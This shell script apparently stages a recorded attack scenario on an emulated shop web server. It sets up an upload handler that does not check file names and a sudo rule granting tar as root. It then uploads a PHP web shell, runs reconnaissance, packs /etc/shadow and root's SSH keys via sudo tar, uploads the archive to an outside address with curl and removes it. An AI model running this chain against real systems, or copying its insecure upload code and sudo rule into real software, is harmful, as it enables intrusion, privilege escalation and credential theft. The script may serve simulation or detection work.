#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# Web shell to credential theft.
# Host: shop
# When: 2026-11-20T02:13:20
#
# A shop's web server (lighttpd and PHP, as www-data) takes profile pictures
# and does not look at their names.  A visitor uploads a PHP file that runs
# its argument, looks around, fails to read /etc/shadow, finds that www-data
# may run tar as root, packs the password database and root's SSH keys with
# it, sends the pack to an address outside and removes it.
# samples/record.sh tells what runs where.
set -eu
here=$(cd "$(dirname "$0")" && pwd)

net() {
	echo "host=203.0.113.66,hostfwd=tcp:127.0.0.1:$HTTP-192.168.20.15:80,guestfwd=tcp:198.51.100.23:8080-cmd:sh $here/stage.sh peer drop"
}

prepare() {
	www=/var/www/html
	rm -f $www/index.*
	mkdir -p $www/uploads
	chown www-data: $www/uploads
	cat >$www/upload.php <<'PHP'
<?php
$to = 'uploads/' . basename($_FILES['picture']['name']);
move_uploaded_file($_FILES['picture']['tmp_name'], $to);
echo "Your picture: $to\n";
PHP
	echo '<h1>Shop</h1>' >$www/index.html
	echo 'www-data ALL=(root) NOPASSWD: /usr/bin/tar' >/etc/sudoers.d/backup
	chmod 440 /etc/sudoers.d/backup
	ssh-keygen -q -t ed25519 -N '' -C root@shop -f /root/.ssh/id_ed25519
	lighttpd-enable-mod fastcgi fastcgi-php >/dev/null
	lighttpd -f /etc/lighttpd/lighttpd.conf
	cron
	sleep 2
}

# One request to the dropped file.
shell() {
	curl -sS -G --data-urlencode "c=$1" "http://127.0.0.1:$HTTP/uploads/avatar.php"
	sleep 1
}

outside() {
	curl -sS "http://127.0.0.1:$HTTP/"
	echo '<?php system($_GET["c"] . " 2>&1");' >"$TMP/avatar.php"
	curl -sS -F "picture=@$TMP/avatar.php" "http://127.0.0.1:$HTTP/upload.php"
	shell 'id; uname -a'
	shell 'ls -la /home; cat /etc/passwd'
	shell 'cat /etc/shadow'
	shell 'sudo -n -l'
	shell 'sudo -n tar -czf /var/www/html/uploads/.p.tgz /etc/shadow /root/.ssh; ls -l .p.tgz'
	shell 'curl -s -F f=@.p.tgz http://198.51.100.23:8080/in'
	shell 'rm -f .p.tgz'
}

peer() { exec perl "$here/../peer.pl"; }

"$@"
